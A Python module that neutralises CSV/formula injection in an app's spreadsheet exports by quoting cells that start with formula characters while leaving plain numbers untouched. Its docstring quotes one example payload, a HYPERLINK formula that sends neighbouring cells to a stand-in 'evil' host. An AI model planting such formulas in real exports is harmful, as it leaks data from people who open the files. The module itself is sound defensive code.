"""Cells a spreadsheet would run as a formula, written as the text they are (CSV/formula injection).

A value typed by someone (a candidate's name, a note, a client's name) that starts with `=`, `+`,
`-` or `@` (or a tab or a carriage return, which some programs skip before reading the rest) is run
as a formula when the exported CSV or XLSX is opened in Excel, LibreOffice or Google Sheets:
`=HYPERLINK("http://evil/?"&A1)` sends the neighbouring cells away. Every export (the spreadsheet
exports, the insights CSVs) passes each cell through `neutralise_cell`, which puts a single quote
in front, so the spreadsheet shows the value as text. Numbers (ints, decimals, floats, and text that
is a plain signed number such as "-12.50") are left as they are: they are not formulas, and a
quote would turn an amount into text no one can sum.

One function for every export, so that the rule is the same wherever a file leaves the app.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

# The characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would read this text as a formula (and it is not a plain number)."""
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise_cell(value: object) -> object:
    """The value to write in a cell: text that would run as a formula gets a leading quote.

    None, booleans, numbers, dates and datetimes pass unchanged (a writer formats them as it
    should); anything else is taken as text.
    """
    if value is None or isinstance(value, (bool, int, float, Decimal, date, datetime)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if is_formula_like(text) else text


def neutralise_row(values: Iterable[object]) -> list[object]:
    """`neutralise_cell` over a row."""
    return [neutralise_cell(value) for value in values]
